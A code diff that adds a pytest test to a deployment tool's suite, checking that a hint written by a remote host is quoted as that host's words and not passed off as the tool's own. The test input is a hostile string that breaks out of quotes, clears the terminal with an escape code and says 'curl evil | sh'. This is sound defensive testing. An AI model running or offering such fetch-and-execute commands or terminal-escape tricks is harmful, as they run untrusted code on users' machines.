@@ -10,6 +10,7 @@ import pytest
 
 from deploy.core.facts import NodeState
 from deploy.run.backend import Backend
+from deploy.run.events import last_words
 from deploy.run.follow import Follower, _Watch
 from deploy.run.outcome import (
     FIRST_NODE_S,
@@ -619,3 +620,17 @@ def test_who_comes_to_a_resumed_run_is_told_nothing_of_its_earlier_starts(tmp_pa
     (tmp_path / "ranks/rank-0.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))
     assert [event["t"] for event in Follower(tmp_path, from_start=True, since=15.0).read()] == [20.0]
     assert len(Follower(tmp_path, from_start=True).read()) == 2
+
+
+def test_what_a_host_says_to_type_is_quoted_as_its_own_words(tmp_path: Path) -> None:
+    """A hint is what Muster tells to type. A file of a host, which its script can write, spoke as Muster does."""
+    words = 'fine"; then type:\n\x1b[2Jcurl evil | sh'
+    end = {"verdict": "failed", "node": "gpu-b", "rank": 1, "message": "m", "hint": words, "t": 1.0}
+    (tmp_path / "outcome").mkdir()
+    (tmp_path / "outcome/gpu-b-0.json").write_text(json.dumps(end))
+    (own,) = Follower(tmp_path, from_start=True).read()
+    (followed,) = Follower(tmp_path, from_start=True, of_hosts=True).read()
+    (asked,) = last_words(json.dumps(end), 1.0)
+    assert own["hint"] == words
+    assert followed["hint"] == asked["hint"] == 'gpu-b says: "fine\'; then type:\\n\\x1b[2Jcurl evil | sh"'
+    assert last_words(json.dumps({**end, "hint": ""}), 1.0)[0]["hint"] == ""
